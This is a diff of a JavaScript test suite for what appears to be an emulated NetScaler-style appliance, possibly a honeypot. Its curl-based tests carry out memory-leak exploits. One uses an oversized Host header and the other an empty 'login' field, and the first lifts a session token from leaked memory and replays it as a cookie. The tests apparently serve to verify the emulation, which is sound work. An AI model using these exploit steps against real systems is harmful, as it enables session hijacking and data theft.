@@ -45,9 +45,28 @@ describe('curl', () => {
   it('takes a session out of the memory and uses it', async () => {
     const leak = join(folder, 'leak')
     await curl('-o', leak, '-H', `Host: ${'a'.repeat(24_812)}`, url('/oauth/idp/.well-known/openid-configuration'))
+    const { length } = readFileSync(leak)
+    expect([length > 10_000, readFileSync(leak, 'latin1').startsWith('{"issuer"')]).toEqual([true, true])
     const [token = ''] = /[0-9a-f]{100}45525d5f4f58455e445a4a42/.exec(readFileSync(leak, 'latin1')) ?? []
     expect(await curl('-X', 'POST', '-b', `NSC_AAAC=${token}`, url('/logon/LogonPoint/Authentication/GetUserName'))).toMatch(/^[a-z.-]+$/)
   })
+
+  it('gets other memory each time it leaves the value of `login` out', async () => {
+    const leaked = async (): Promise<string | undefined> =>
+      /<InitialValue>([\s\S]+?)<\/InitialValue>/.exec(await curl('-d', 'login', url('/p/u/doAuthentication.do')))?.[1]
+    const [first, second] = [await leaked(), await leaked()]
+    expect(first).not.toBe(second)
+    expect([first?.length, second?.length]).toEqual([expect.any(Number), expect.any(Number)])
+  })
+})
+
+describe('openssl', () => {
+  it('sees a certificate with a name of this installation', async () => {
+    const command = `openssl s_client -connect 127.0.0.1:${playing.port()} </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer`
+    const { stdout } = await run('sh', ['-c', command], { timeout: 20_000 })
+    expect(stdout).toMatch(/^subject=CN ?= ?[\w-]+\.[\w.-]+\n/)
+    expect(stdout).not.toMatch(/Internet Widgits|Some-State|localhost|example/)
+  }, 30_000)
 })
 
 describe('hydra', () => {
